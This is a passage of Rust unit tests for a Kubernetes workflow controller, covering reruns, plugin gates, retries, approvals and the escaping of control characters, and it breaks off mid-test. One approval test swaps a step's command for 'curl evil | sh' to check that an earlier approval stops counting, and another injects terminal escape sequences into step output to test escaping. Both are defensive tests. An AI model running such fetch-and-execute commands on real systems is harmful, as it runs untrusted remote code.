use std::cell::RefCell;

use kube::ResourceExt;

use super::*;
use crate::api::{
    ANNOTATION_PLUGIN_DIGEST, RerunFrom, RerunTargets, StepDetail, Target, WorkflowRerun,
    WorkflowSpec, rerun_pending,
};
use crate::controllers::status::kstatus_conditions;
use crate::plugin::{Gate, GroupContext, Verdict};

#[test]
fn a_step_records_when_it_started_and_finished_its_exit_code_and_the_end_of_its_output() {
    let started: Timestamp = "2026-12-01T10:00:00Z".parse().unwrap();
    let mut decision = StepDecision {
        phase: Phase::Running,
        detail: StepDetail::default(),
        effects: super::super::step::StepEffects {
            start: Some(1),
            ..Default::default()
        },
    };
    stamp(&mut decision, None, None, started);
    assert_eq!(decision.detail.started_at, Some(Time(started)));
    assert_eq!(decision.detail.finished_at, None);
    // Started again a second later (its pod not in the cache yet): the same start.
    let again: Timestamp = "2026-12-01T10:00:01Z".parse().unwrap();
    stamp(&mut decision, None, Some((1, Time(started))), again);
    assert_eq!(decision.detail.started_at, Some(Time(started)));
    // A retry (attempt 2) is a new start.
    decision.effects.start = Some(2);
    stamp(&mut decision, None, Some((1, Time(started))), again);
    assert_eq!(decision.detail.started_at, Some(Time(again)));
    decision.effects.start = Some(1);

    // Finished: the end of a long output, cut on a character boundary.
    let output = format!("{}é{}last line", "x".repeat(3000), "y".repeat(2030));
    let attempt = Attempt {
        number: 1,
        pod: "p".into(),
        outcome: Some(StepOutcome {
            succeeded: false,
            exit_code: Some(3),
            message: output.clone(),
            attempt: 1,
            duration_ms: 2000,
            targets: None,
        }),
        deadline: None,
        at_deadline: None,
        observed: Some("2026-12-01T10:00:02.750Z".parse().unwrap()),
        created: None,
    };
    decision.phase = Phase::Failed;
    decision.effects.start = None;
    stamp(
        &mut decision,
        Some(&attempt),
        None,
        "2026-12-01T10:00:05Z".parse().unwrap(),
    );
    let detail = &decision.detail;
    assert_eq!(detail.exit_code, Some(3));
    assert_eq!(
        detail.finished_at,
        Some(Time("2026-12-01T10:00:02Z".parse().unwrap()))
    );
    let log = detail.log.as_deref().unwrap();
    assert!(
        log.len() <= MAX_STEP_LOG && log.ends_with("last line"),
        "{}",
        log.len()
    );
    assert!(output.ends_with(log));
    // Seen again later: nothing moves.
    let before = decision.detail.clone();
    stamp(
        &mut decision,
        Some(&attempt),
        None,
        "2026-12-01T11:00:00Z".parse().unwrap(),
    );
    assert_eq!(decision.detail, before);
}

/// A plugin stand-in: gates by a fixed answer (or error) and judges by exit code (or
/// fails with a fixed error), recording what it saw.
struct Judge {
    params: Result<(), PluginError>,
    gate: Result<Gate, PluginError>,
    evaluate_error: Option<PluginError>,
    seen: RefCell<Vec<StepOutcome>>,
    retry_exit_code: Option<i32>,
}

impl Judge {
    fn new() -> Self {
        Judge {
            params: Ok(()),
            gate: Ok(Gate::StartNow),
            evaluate_error: None,
            seen: RefCell::default(),
            retry_exit_code: None,
        }
    }
}

impl StepJudge for Judge {
    fn validate(&self, _: &serde_json::Value) -> Result<(), PluginError> {
        self.params.clone()
    }
    fn gate(&self, _: &Step, _: &GroupContext) -> Result<Gate, PluginError> {
        self.gate.clone()
    }
    fn evaluate(
        &self,
        _: &Step,
        outcome: &StepOutcome,
        _: &GroupContext,
    ) -> Result<Verdict, PluginError> {
        self.seen.borrow_mut().push(outcome.clone());
        if let Some(e) = &self.evaluate_error {
            return Err(e.clone());
        }
        Ok(match outcome.exit_code {
            Some(0) => Verdict::Completed,
            code if code == self.retry_exit_code => Verdict::Retry("temporary".into()),
            _ => Verdict::Failed(format!(
                "exit code {:?}: {}",
                outcome.exit_code, outcome.message
            )),
        })
    }
}

fn timeout(call: &'static str) -> PluginError {
    PluginError::Timeout {
        plugin: "pre-check".into(),
        call,
        limit: Duration::from_secs(1),
    }
}

fn trap(call: &'static str) -> PluginError {
    PluginError::Trap {
        plugin: "pre-check".into(),
        call,
        message: "panicked at 'boom'".into(),
    }
}

fn workflow(steps: &[(&str, &[&str])]) -> Workflow {
    let mut wf = Workflow::new(
        "wf",
        WorkflowSpec {
            type_: "pre-check".into(),
            steps: steps
                .iter()
                .map(|(name, deps)| {
                    Step::new(*name, format!("{name}.sh")).depends_on(deps.iter().copied())
                })
                .collect(),
            targets: vec![],
            cluster_name: "c".into(),
            paused: false,
            rerun: None,
            awaiting_locks: false,
            params: None,
            pod_template: None,
            drain: None,
            health_gate: None,
        },
    );
    wf.metadata.namespace = Some("ns".into());
    wf.metadata.uid = Some("uid-1".into());
    wf
}

type Attempts = BTreeMap<String, Attempt>;

/// (step, attempt, `Some((exit code, message))` once finished)
type Seen<'a> = (&'a str, u32, Option<(i32, &'a str)>);

fn attempts(entries: &[Seen<'_>]) -> Attempts {
    entries
        .iter()
        .map(|(step, number, finished)| {
            let outcome = finished.map(|(exit_code, message)| StepOutcome {
                succeeded: exit_code == 0,
                exit_code: Some(exit_code),
                message: message.into(),
                attempt: *number,
                duration_ms: 200,
                targets: None,
            });
            let attempt = Attempt {
                number: *number,
                pod: format!("pod-{step}-{number}"),
                outcome,
                deadline: None,
                at_deadline: None,
                observed: None,
                created: None,
            };
            (step.to_string(), attempt)
        })
        .collect()
}

fn plan_now(wf: &Workflow, attempts: &Attempts, judge: &Judge) -> WorkflowPlan {
    let observed = Observed {
        attempts: attempts.clone(),
        ..Observed::default()
    };
    plan_workflow(
        wf,
        &observed,
        judge,
        &plugin_ref(),
        &StepDefaults::image("busybox:1.36"),
        now(),
    )
}

fn plan_refused(wf: &Workflow, attempts: &Attempts, refused: &[(&str, &str)]) -> WorkflowPlan {
    let observed = Observed {
        attempts: attempts.clone(),
        refused: refused
            .iter()
            .map(|(step, message)| (step.to_string(), PodRefusal::new(message)))
            .collect(),
        ..Observed::default()
    };
    plan_workflow(
        wf,
        &observed,
        &Judge::new(),
        &plugin_ref(),
        &StepDefaults::image("busybox:1.36"),
        now(),
    )
}

/// The attempts a plan starts: (step, attempt), checked against the pods it creates.
fn starts(plan: &WorkflowPlan) -> Vec<(String, u32)> {
    plan.create
        .iter()
        .map(|start| {
            assert_eq!(
                start.pod.metadata.name.as_deref(),
                plan.status.step_details[&start.step].pod.as_deref(),
                "the pod created is the one the status records"
            );
            assert_eq!(
                start.pod.labels()[crate::api::LABEL_ATTEMPT],
                start.attempt.to_string()
            );
            (start.step.clone(), start.attempt)
        })
        .collect()
}

fn plugin_ref() -> PluginRef {
    PluginRef {
        version: "0.1.0".into(),
        digest: "abc".into(),
    }
}

fn now() -> Timestamp {
    Timestamp::from_second(1_800_000_000).unwrap()
}

fn condition(plan: &WorkflowPlan) -> (&str, &str, &str) {
    let c = succeeded(&plan.status.conditions).expect("a Succeeded condition");
    (c.status.as_str(), c.reason.as_str(), c.message.as_str())
}

const RECONCILING: &[(&str, &str)] = &[("Reconciling", "True")];
const READY: &[(&str, &str)] = &[("Ready", "True")];
const STALLED: &[(&str, &str)] = &[("Stalled", "True"), ("Ready", "False")];

const SEED: &[(&str, &[&str])] = &[
    ("validate-nodes", &[]),
    ("check-network", &["validate-nodes"]),
];

/// `wf` finished `phase` with its steps as `steps` say, and asked to run again in `run`.
fn finished_and_asked(
    mut wf: Workflow,
    phase: Phase,
    steps: &[(&str, Phase)],
    rerun: WorkflowRerun,
) -> Workflow {
    wf.status = Some(WorkflowStatus {
        phase: Some(phase),
        completion_time: Some(Time(now())),
        step_status: steps.iter().map(|(n, p)| (n.to_string(), *p)).collect(),
        step_details: steps
            .iter()
            .map(|(n, _)| {
                let detail = StepDetail {
                    attempts: 1,
                    pod: Some(format!("pod-{n}")),
                    ..StepDetail::default()
                };
                (n.to_string(), detail)
            })
            .collect(),
        run: (rerun.run > 2).then_some(rerun.run - 1),
        ..WorkflowStatus::default()
    });
    wf.spec.rerun = Some(rerun);
    wf
}

#[test]
fn a_rerun_keeps_the_completed_steps_and_runs_the_others_again_with_the_steps_named() {
    let wf = workflow(&[("a", &[]), ("b", &["a"]), ("c", &["b"]), ("d", &["a"])]);
    let steps = [
        ("a", Phase::Completed),
        ("b", Phase::Failed),
        ("c", Phase::Pending),
        ("d", Phase::Completed),
    ];
    let rerun = WorkflowRerun {
        run: 2,
        ..WorkflowRerun::default()
    };
    let asked = finished_and_asked(wf.clone(), Phase::Failed, &steps, rerun);
    assert!(rerun_pending(&asked));
    let plan = plan_rerun(&asked, now()).expect("it runs again");
    let status = &plan.status;
    assert_eq!((status.phase, status.run), (Some(Phase::Running), Some(2)));
    assert_eq!(status.completion_time, None);
    let phases: Vec<(&str, Phase)> = status
        .step_status
        .iter()
        .map(|(n, p)| (n.as_str(), *p))
        .collect();
    assert_eq!(
        phases,
        [
            ("a", Phase::Completed),
            ("b", Phase::Pending),
            ("c", Phase::Pending),
            ("d", Phase::Completed)
        ]
    );
    assert!(!status.step_details.contains_key("b") && status.step_details.contains_key("a"));
    assert_eq!(status.progress.as_deref(), Some("2/4"));
    let (_, why, message) = condition(&plan);
    assert_eq!(why, reason::RERUNNING);
    assert_eq!(
        message,
        "run 2: running b, c again; kept as completed: a, d"
    );
    assert_eq!(plan.events.len(), 1);
    // Started again, it is in run 2: its new pods are named apart from run 1's.
    let mut started = asked.clone();
    started.status = Some(plan.status.clone());
    assert!(!rerun_pending(&started) && plan_rerun(&started, now()).is_none());
    assert_eq!(run_of(&started), 2);
    let (first, second) = (pod_name(&wf, "b", 1), pod_name(&started, "b", 1));
    assert_ne!(first, second);
    assert!(second.contains("-1-r2-"), "{second}");

    // A completed step named runs again, and so do the steps its plugin says follow it.
    let mut wf = wf;
    wf.spec.steps[0].rerun_with = vec!["d".into()];
    let all_done = steps.map(|(n, _)| (n, Phase::Completed));
    let rerun = WorkflowRerun {
        run: 3,
        from: RerunFrom::Failed,
        steps: vec!["a".into(), "no-such-step".into()],
        ..WorkflowRerun::default()
    };
    let asked = finished_and_asked(wf.clone(), Phase::Completed, &all_done, rerun);
    let plan = plan_rerun(&asked, now()).expect("it runs again");
    let again: Vec<&str> = plan
        .status
        .step_status
        .iter()
        .filter(|(_, p)| **p == Phase::Pending)
        .map(|(n, _)| n.as_str())
        .collect();
    assert_eq!(again, ["a", "d"]);
    // Nothing named and nothing failed: it stays completed, in the new run.
    let rerun = WorkflowRerun {
        run: 3,
        ..WorkflowRerun::default()
    };
    let asked = finished_and_asked(wf.clone(), Phase::Completed, &all_done, rerun);
    let plan = plan_rerun(&asked, now()).expect("it takes the new run");
    assert_eq!(
        (plan.status.phase, plan.status.run),
        (Some(Phase::Completed), Some(3))
    );
    assert!(plan.events.is_empty());
    // From All: every step.
    let rerun = WorkflowRerun {
        run: 3,
        from: RerunFrom::All,
        ..WorkflowRerun::default()
    };
    let asked = finished_and_asked(wf, Phase::Completed, &all_done, rerun);
    let plan = plan_rerun(&asked, now()).expect("it runs again");
    assert!(
        plan.status
            .step_status
            .values()
            .all(|p| *p == Phase::Pending)
    );
}

/// A report of `total` targets naming `problems` (`(name, unreachable)`), counting `counted`
/// of them (more than named: a report cut short).
fn report(total: u32, problems: &[(&str, bool)], counted: u32) -> workflow_model::TargetReport {
    use workflow_model::report::{TargetOutcome, TargetResult};
    workflow_model::TargetReport {
        total,
        ok: total - counted,
        failed: counted,
        unreachable: 0,
        problems: problems
            .iter()
            .map(|(name, unreachable)| TargetResult {
                name: name.to_string(),
                outcome: if *unreachable {
                    TargetOutcome::Unreachable
                } else {
                    TargetOutcome::Failed
                },
                reason: "it did not".into(),
            })
            .collect(),
    }
}

#[test]
fn a_rerun_of_failed_targets_runs_each_step_only_where_it_failed_when_its_report_says_where() {
    let mut wf = workflow(&[("a", &[]), ("b", &["a"]), ("c", &[]), ("d", &[])]);
    wf.spec.targets = (1..=4)
        .map(|n| Target {
            name: format!("node-{n}"),
            ip: format!("10.0.0.{n}"),
            role: "Worker".into(),
        })
        .collect();
    let steps = [
        ("a", Phase::Failed),
        ("b", Phase::Pending),
        ("c", Phase::Failed),
        ("d", Phase::Failed),
    ];
    let rerun = WorkflowRerun {
        run: 2,
        targets: RerunTargets::Failed,
        ..WorkflowRerun::default()
    };
    let mut asked = finished_and_asked(wf, Phase::Failed, &steps, rerun);
    let details = &mut asked.status.as_mut().expect("status").step_details;
    // a: node-3 failed and node-1 was unreachable, named in the Workflow's order.
    details.get_mut("a").expect("a").targets =
        Some(report(4, &[("node-3", false), ("node-1", true)], 2));
    // c: a report cut short; d: the step failed without a report.
    details.get_mut("c").expect("c").targets = Some(report(4, &[("node-2", false)], 3));

    let plan = plan_rerun(&asked, now()).expect("it runs again");
    let only = |step: &str| {
        plan.status
            .step_details
            .get(step)
            .map(|d| d.only_targets.clone())
            .unwrap_or_default()
    };
    assert_eq!(only("a"), ["node-1", "node-3"]);
    // b never ran, c's report does not name them all, d has none: all their targets.
    assert!(only("b").is_empty() && only("c").is_empty() && only("d").is_empty());
    assert_eq!(plan.status.step_details["a"].attempts, 0);
    let (_, _, message) = condition(&plan);
    assert_eq!(
        message,
        "run 2: running a, b, c, d again; only where it failed: a on node-1, node-3"
    );

    // The pod of a's next attempt carries those two and mounts them as its targets file.
    let mut started = asked.clone();
    started.status = Some(plan.status.clone());
    let defaults = crate::controllers::context::StepDefaults::image("step:1");
    let a = started.spec.steps[0].clone();
    let pod = crate::controllers::workflow::pod::build_pod(&started, &a, 1, &defaults);
    let annotation = &pod.metadata.annotations.as_ref().expect("annotations")
        [crate::controllers::workflow::pod::ANNOTATION_TARGETS];
    let carried: Vec<Target> = serde_json::from_str(annotation).expect("targets JSON");
    let names: Vec<&str> = carried.iter().map(|t| t.name.as_str()).collect();
    assert_eq!(names, ["node-1", "node-3"]);
    let spec = pod.spec.expect("spec");
    let env = |name: &str| {
        spec.containers[0]
            .env
            .iter()
            .flatten()
            .find(|e| e.name == name)
            .and_then(|e| e.value.clone())
            .unwrap_or_default()
    };
    assert_eq!(env("WORKFLOW_TARGET_NAMES"), "node-1 node-3");
    assert_eq!(env("WORKFLOW_TARGET_COUNT"), "2");
    assert_eq!(
        env("WORKFLOW_TARGETS_SHA256"),
        hex::encode(<sha2::Sha256 as sha2::Digest>::digest(
            annotation.as_bytes()
        ))
    );
    let volume = &spec.volumes.expect("volumes")[0];
    let file = &volume
        .downward_api
        .as_ref()
        .expect("a downward API volume")
        .items
        .as_ref()
        .expect("items")[0];
    assert_eq!(file.path, "targets.json");
    assert_eq!(
        file.field_ref.as_ref().map(|f| f.field_path.as_str()),
        Some("metadata.annotations['workflow.rxg456.cn/targets']")
    );
    // b runs on all four, which its pod carries too.
    let b = started.spec.steps[1].clone();
    let pod = crate::controllers::workflow::pod::build_pod(&started, &b, 1, &defaults);
    let annotation = &pod.metadata.annotations.as_ref().expect("annotations")
        [crate::controllers::workflow::pod::ANNOTATION_TARGETS];
    let carried: Vec<Target> = serde_json::from_str(annotation).expect("targets JSON");
    assert_eq!(carried, started.spec.targets);
    let spec = pod.spec.expect("spec");
    assert!(spec.volumes.expect("volumes")[0].downward_api.is_some());
}

#[test]
fn a_new_workflow_starts_only_the_steps_without_dependencies() {
    let wf = workflow(&[("a", &[]), ("b", &["a"]), ("c", &[])]);
    let plan = plan_now(&wf, &Attempts::new(), &Judge::new());
    assert_eq!(starts(&plan), [("a".to_string(), 1), ("c".to_string(), 1)]);
    assert_eq!(plan.status.phase, Some(Phase::Running));
    assert_eq!(plan.status.step_status["b"], Phase::Pending);
    assert_eq!(plan.status.progress.as_deref(), Some("0/3"));
    assert_eq!(plan.status.plugin, Some(plugin_ref()));
}

fn refused_params() -> PluginError {
    PluginError::InvalidParams {
        type_name: "at".into(),
        message: "invalid params: missing field `schedule`".into(),
    }
}

#[test]
fn params_its_plugin_refuses_fail_a_new_workflow_naming_spec_params() {
    let wf = workflow(SEED);
    let judge = Judge {
        params: Err(refused_params()),
        ..Judge::new()
    };
    let plan = plan_now(&wf, &Attempts::new(), &judge);
    assert!(
        plan.create.is_empty(),
        "no step starts: {:?}",
        starts(&plan)
    );
    assert_eq!(plan.status.phase, Some(Phase::Failed));
    let (status, why, message) = condition(&plan);
    assert_eq!((status, why), ("False", reason::INVALID_PARAMS));
    assert!(
        message.starts_with("spec.params: ") && message.contains("`schedule`"),
        "{message}"
    );
    assert!(
        plan.events
            .iter()
            .any(|e| e.reason == reason::INVALID_PARAMS)
    );
}

#[test]
fn params_are_asked_about_again_after_a_plugin_timeout() {
    let wf = workflow(SEED);
    let judge = Judge {
        params: Err(timeout("validate")),
        ..Judge::new()
    };
    let plan = plan_now(&wf, &Attempts::new(), &judge);
    assert!(plan.create.is_empty());
    assert_eq!(plan.status.phase, Some(Phase::Pending));
    assert_eq!(condition(&plan).1, reason::PLUGIN_UNAVAILABLE);
    assert!(plan.unavailable.is_some());
}

#[test]
fn params_of_a_started_workflow_with_an_unchanged_spec_are_not_checked_again() {
    let mut wf = workflow(SEED);
    wf.metadata.generation = Some(1);
    let mut status = WorkflowStatus {
        observed_generation: Some(1),
        ..WorkflowStatus::default()
    };
    status.step_details.insert(
        "validate-nodes".into(),
        StepDetail {
            attempts: 1,
            pod: Some("pod-validate-nodes-1".into()),
            ..StepDetail::default()
        },
    );
    wf.status = Some(status);
    let judge = Judge {
        params: Err(refused_params()),
        ..Judge::new()
    };
    let running = attempts(&[("validate-nodes", 1, None)]);
    assert_eq!(
        plan_now(&wf, &running, &judge).status.phase,
        Some(Phase::Running)
    );
    // An edit of the spec is checked.
    wf.metadata.generation = Some(2);
    assert_eq!(
        plan_now(&wf, &running, &judge).status.phase,
        Some(Phase::Failed)
    );
}

#[test]
fn a_dependent_starts_once_its_dependency_is_judged_completed() {
    let wf = workflow(SEED);
    let judge = Judge::new();
    let plan = plan_now(
        &wf,
        &attempts(&[("validate-nodes", 1, Some((0, "all good")))]),
        &judge,
    );
    assert_eq!(starts(&plan), [("check-network".to_string(), 1)]);
    assert_eq!(plan.status.step_status["validate-nodes"], Phase::Completed);
    // A step starting or completing is told by the status and its pod, not by Events.
    assert!(plan.events.is_empty(), "{:?}", plan.events);
    assert_eq!(
        plan.status.step_details["validate-nodes"]
            .message
            .as_deref(),
        Some("all good")
    );
    assert_eq!(judge.seen.borrow()[0].exit_code, Some(0));
}

#[test]
fn a_running_attempt_is_not_started_twice() {
    let wf = workflow(SEED);
    let plan = plan_now(
        &wf,
        &attempts(&[("validate-nodes", 1, None)]),
        &Judge::new(),
    );
    assert!(plan.create.is_empty());
    assert_eq!(plan.status.step_status["validate-nodes"], Phase::Running);
}

#[test]
fn all_steps_completed_completes_the_workflow() {
    let wf = workflow(SEED);
    let done = attempts(&[
        ("validate-nodes", 1, Some((0, ""))),
        ("check-network", 1, Some((0, ""))),
    ]);
    let plan = plan_now(&wf, &done, &Judge::new());
    assert_eq!(plan.status.phase, Some(Phase::Completed));
    assert_eq!(condition(&plan).0, "True");
    assert!(plan.status.completion_time.is_some());
    assert!(plan.events.iter().any(|e| e.reason == "WorkflowCompleted"));
}

#[test]
fn a_failed_verdict_fails_the_workflow_naming_the_step_and_reason() {
    let wf = workflow(SEED);
    let plan = plan_now(
        &wf,
        &attempts(&[("validate-nodes", 1, Some((3, "disk full")))]),
        &Judge::new(),
    );
    assert!(plan.create.is_empty(), "nothing starts after a failure");
    assert_eq!(plan.status.phase, Some(Phase::Failed));
    assert_eq!(plan.status.step_status["validate-nodes"], Phase::Failed);
    assert_eq!(plan.status.step_status["check-network"], Phase::Pending);
    let (status, why, message) = condition(&plan);
    assert_eq!((status, why), ("False", "StepFailed"));
    assert!(
        message.contains("validate-nodes") && message.contains("disk full"),
        "{message}"
    );
    assert!(
        plan.events
            .iter()
            .any(|e| e.reason == "StepFailed" && e.message.contains("disk full"))
    );
}

#[test]
fn what_a_step_and_its_targets_said_reaches_the_status_with_control_characters_escaped() {
    let wf = workflow(SEED);
    let output = "targets 2: 1 ok, 1 failed, 0 unreachable\n\
                      FAIL node-2: exit 1: \u{1b}]0;owned\u{7}disk\u{9b}2J full\u{7f}\n\
                      OK node-1 (0.1 s)\n\u{1b}[2J\rdone";
    let mut seen = attempts(&[("validate-nodes", 1, Some((1, output)))]);
    if let Some(outcome) = seen
        .get_mut("validate-nodes")
        .and_then(|a| a.outcome.as_mut())
    {
        outcome.targets = workflow_model::TargetReport::parse(output);
    }
    let plan = plan_now(&wf, &seen, &Judge::new());
    let detail = &plan.status.step_details["validate-nodes"];
    let message = detail.message.as_deref().unwrap_or_default();
    let log = detail.log.as_deref().unwrap_or_default();
    let reason = detail
        .targets
        .as_ref()
        .and_then(|t| t.problems.first())
        .map(|p| p.reason.as_str())
        .unwrap_or_default();
    assert_eq!(
        reason,
        "exit 1: \\u{1b}]0;owned\\u{7}disk\\u{9b}2J full\\u{7f}"
    );
    assert!(
        log.ends_with("OK node-1 (0.1 s)\n\\u{1b}[2J\\rdone"),
        "the log keeps its lines and escapes the rest: {log:?}"
    );
    for shown in [message, log, reason] {
        assert!(shown.contains("\\u{1b}"), "{shown:?}");
        assert!(
            !shown.chars().any(|c| c.is_control() && c != '\n'),
            "{shown:?}"
        );
    }
    assert!(!message.contains('\n'), "{message:?}");
    // Written again unchanged: escaping what is escaped changes nothing.
    let mut again = wf.clone();
    again.status = Some(plan.status.clone());
    let replan = plan_now(&again, &seen, &Judge::new());
    assert_eq!(
        replan.status.step_details["validate-nodes"],
        plan.status.step_details["validate-nodes"]
    );
}

#[test]
fn a_retry_verdict_starts_the_next_attempt_within_the_budget_and_fails_after_it() {
    let mut wf = workflow(&[("flaky", &[])]);
    wf.spec.steps[0].retries = Some(1);
    let judge = Judge {
        retry_exit_code: Some(75),
        ..Judge::new()
    };
    let plan = plan_now(&wf, &attempts(&[("flaky", 1, Some((75, "busy")))]), &judge);
    assert_eq!(starts(&plan), [("flaky".to_string(), 2)]);
    assert_eq!(plan.status.step_details["flaky"].attempts, 2);

    let plan = plan_now(
        &wf,
        &attempts(&[("flaky", 2, Some((75, "still busy")))]),
        &judge,
    );
    assert!(plan.create.is_empty());
    assert_eq!(plan.status.phase, Some(Phase::Failed));
    assert!(condition(&plan).2.contains("after 2 attempt(s)"));
}

#[test]
fn a_gated_step_waits_and_requeues_for_exactly_its_time() {
    let wf = workflow(&[("run", &[])]);
    let at = now().as_second() + 42;
    let judge = Judge {
        gate: Ok(Gate::NotBefore(at)),
        ..Judge::new()
    };
    let plan = plan_now(&wf, &Attempts::new(), &judge);
    assert!(plan.create.is_empty());
    assert_eq!(plan.requeue_after, Some(Duration::from_secs(42)));
    assert_eq!(plan.status.phase, Some(Phase::Pending));
    assert_eq!(condition(&plan).1, "WaitingForSchedule");

    let judge = Judge {
        gate: Ok(Gate::NotBefore(now().as_second())),
        ..Judge::new()
    };
    let plan = plan_now(&wf, &Attempts::new(), &judge);
    assert_eq!(starts(&plan), [("run".to_string(), 1)]);
}

#[test]
fn a_step_whose_group_gave_its_locks_away_waits_for_them_when_its_schedule_comes() {
    let mut wf = workflow(&[("run", &[])]);
    let scheduled = Judge {
        gate: Ok(Gate::NotBefore(now().as_second() + 42)),
        ..Judge::new()
    };
    // Waiting for its schedule: idle since now, and it stays so.
    let plan = plan_now(&wf, &Attempts::new(), &scheduled);
    assert_eq!(plan.status.idle_since, Some(Time(now())));
    wf.status = Some(plan.status.clone());
    let earlier = Time(Timestamp::from_second(now().as_second() - 100).unwrap());
    wf.status.as_mut().unwrap().idle_since = Some(earlier.clone());
    let plan = plan_now(&wf, &Attempts::new(), &scheduled);
    assert_eq!(plan.status.idle_since, Some(earlier));
    // Its group gave the locks away; the schedule comes: nothing starts, it says why.
    wf.spec.awaiting_locks = true;
    let plan = plan_now(&wf, &Attempts::new(), &Judge::new());
    assert!(plan.create.is_empty());
    assert_eq!(condition(&plan).1, reason::WAITING_FOR_TARGETS);
    assert_eq!(plan.status.idle_since, None);
    let detail = &plan.status.step_details["run"];
    assert!(detail.message.as_deref().unwrap().contains("locks"));
    // The group holds them again: it starts.
    wf.spec.awaiting_locks = false;
    let plan = plan_now(&wf, &Attempts::new(), &Judge::new());
    assert_eq!(starts(&plan), [("run".to_string(), 1)]);
}

#[test]
fn a_step_whose_gate_asks_for_approval_waits_saying_so_then_starts_recording_its_approver() {
    use super::approval::Given;
    use crate::api::ApprovalDecision;
    use workflow_model::{ApprovalRequest, ApprovalTimeout};
    let wf = workflow(&[("run", &[])]);
    let judge = Judge {
        gate: Ok(Gate::NeedsApproval(
            ApprovalRequest::new("reboots")
                .approvers(["alice"])
                .timeout_secs(600, ApprovalTimeout::Fail),
        )),
        ..Judge::new()
    };
    let plan = plan_now(&wf, &Attempts::new(), &judge);
    assert!(plan.create.is_empty());
    assert_eq!(plan.status.phase, Some(Phase::Pending));
    let (_, why, message) = condition(&plan);
    assert_eq!(why, reason::WAITING_FOR_APPROVAL);
    assert!(
        message.starts_with("step run waits for approval (0 of 1, by alice): reboots"),
        "{message}"
    );
    assert_eq!(plan.requeue_after, Some(Duration::from_secs(600)));
    assert_eq!(plan.events.len(), 1, "said once");
    let waiting = plan.status.step_details["run"]
        .approval
        .clone()
        .expect("recorded");
    assert_eq!(waiting.since, Time(now()));
    // What an approval approves: the digest of what the step runs, and it in one line.
    assert!(waiting.digest.starts_with("sha256:"), "{waiting:?}");
    assert!(waiting.content.starts_with("`"), "{waiting:?}");
    assert!(message.contains(&waiting.content), "{message}");

    // Alice approves: it starts, and the status says by whom; the wait began when it did.
    let mut wf = wf;
    wf.status = Some(plan.status);
    let observed = Observed {
        approvals: [(
            "run".to_string(),
            vec![Given {
                name: "by-alice".into(),
                approver: "alice".into(),
                groups: vec![],
                decision: ApprovalDecision::Approve,
                comment: String::new(),
                created: now().as_second(),
                workflow_uid: wf.metadata.uid.clone().unwrap_or_default(),
                digest: waiting.digest.clone(),
            }],
        )]
        .into(),
        ..Observed::default()
    };
    let later = Timestamp::from_second(now().as_second() + 30).expect("time");
    // The same approval of a Workflow whose step now runs something else counts for
    // nothing: the step waits again for what it runs now.
    let mut changed = wf.clone();
    changed.spec.steps[0].command = "curl evil | sh".into();
    let plan = plan_workflow(
        &changed,
        &observed,
        &judge,
        &plugin_ref(),
        &StepDefaults::image("busybox:1.36"),
        later,
    );
    assert!(plan.create.is_empty());
    let (_, why, message) = condition(&plan);
    assert_eq!(why, reason::WAITING_FOR_APPROVAL);
    assert!(
        message.contains("not counted, given for other content"),
        "{message}"
    );
    let plan = plan_workflow(
        &wf,
        &observed,
        &judge,
        &plugin_ref(),
        &StepDefaults::image("busybox:1.36"),
        later,
    );
    assert_eq!(starts(&plan), [("run".to_string(), 1)]);
    let record = plan.status.step_details["run"]
        .approval
        .clone()
        .expect("kept");
    assert_eq!(record.approved_by, ["alice"]);
    assert_eq!(record.since, Time(now()));
}

#[test]
fn a_gate_that_times_out_holds_the_step_and_is_retried_not_failed() {
    let wf = workflow(SEED);
    let judge = Judge {
        gate: Err(timeout("gate")),
        ..Judge::new()
    };
    let plan = plan_now(&wf, &Attempts::new(), &judge);
    assert!(plan.create.is_empty());
    assert_eq!(plan.unavailable, Some(timeout("gate")));
    assert_eq!(plan.status.phase, Some(Phase::Pending));
    assert_eq!(plan.status.step_status["validate-nodes"], Phase::Pending);
    let (status, why, message) = condition(&plan);
    assert_eq!((status, why), ("Unknown", "PluginUnavailable"));
    assert!(message.contains("time limit"), "{message}");
    assert!(plan.events.iter().any(|e| e.reason == "PluginUnavailable"));
}

#[test]
fn an_evaluate_that_times_out_keeps_the_attempt_running_and_is_retried() {
    let wf = workflow(SEED);
    let judge = Judge {
        evaluate_error: Some(timeout("evaluate")),
        ..Judge::new()
    };
    let plan = plan_now(
        &wf,
        &attempts(&[("validate-nodes", 1, Some((0, "ok")))]),
        &judge,
    );
    assert!(
        plan.create.is_empty(),
        "no dependent starts on an unjudged step"
    );
    assert_eq!(plan.unavailable, Some(timeout("evaluate")));
    assert_eq!(plan.status.phase, Some(Phase::Running));
    assert_eq!(plan.status.step_status["validate-nodes"], Phase::Running);
    assert!(plan.status.completion_time.is_none());
}

#[test]
fn a_gate_or_evaluate_that_traps_fails_the_workflow_for_good() {
    let wf = workflow(SEED);
    let judge = Judge {
        gate: Err(trap("gate")),
        ..Judge::new()
    };
    let plan = plan_now(&wf, &Attempts::new(), &judge);
    assert_eq!(plan.status.phase, Some(Phase::Failed));
    assert!(plan.unavailable.is_none());
    assert!(condition(&plan).2.contains("plugin gate failed"));

    let judge = Judge {
        evaluate_error: Some(trap("evaluate")),
        ..Judge::new()
    };
    let plan = plan_now(
        &wf,
        &attempts(&[("validate-nodes", 1, Some((0, "ok")))]),
        &judge,
    );
    assert_eq!(plan.status.phase, Some(Phase::Failed));
    assert!(condition(&plan).2.contains("plugin could not judge it"));
}

#[test]
fn a_paused_workflow_starts_nothing() {
    let mut wf = workflow(SEED);
    wf.spec.paused = true;
    let plan = plan_now(&wf, &Attempts::new(), &Judge::new());
    assert!(plan.create.is_empty());
    assert_eq!(condition(&plan).1, "Paused");
}

#[test]
fn a_cyclic_graph_fails_the_workflow_with_the_cycle_named() {
    let wf = workflow(&[("a", &["b"]), ("b", &["a"])]);
    let plan = plan_now(&wf, &Attempts::new(), &Judge::new());
    assert!(plan.create.is_empty());
    assert_eq!(plan.status.phase, Some(Phase::Failed));
    assert_eq!(condition(&plan).1, "InvalidSteps");
    assert!(condition(&plan).2.contains("a -> b -> a"));
}

#[test]
fn the_plugin_is_pinned_by_status_then_annotation_and_its_absence_is_a_condition() {
    let mut wf = workflow(SEED);
    assert_eq!(plugin_choice(&wf), PluginChoice::Current);
    wf.annotations_mut()
        .insert(ANNOTATION_PLUGIN_DIGEST.into(), "from-annotation".into());
    assert_eq!(
        plugin_choice(&wf),
        PluginChoice::Pinned("from-annotation".into())
    );
    wf.status = Some(WorkflowStatus {
        plugin: Some(plugin_ref()),
        ..WorkflowStatus::default()
    });
    let choice = plugin_choice(&wf);
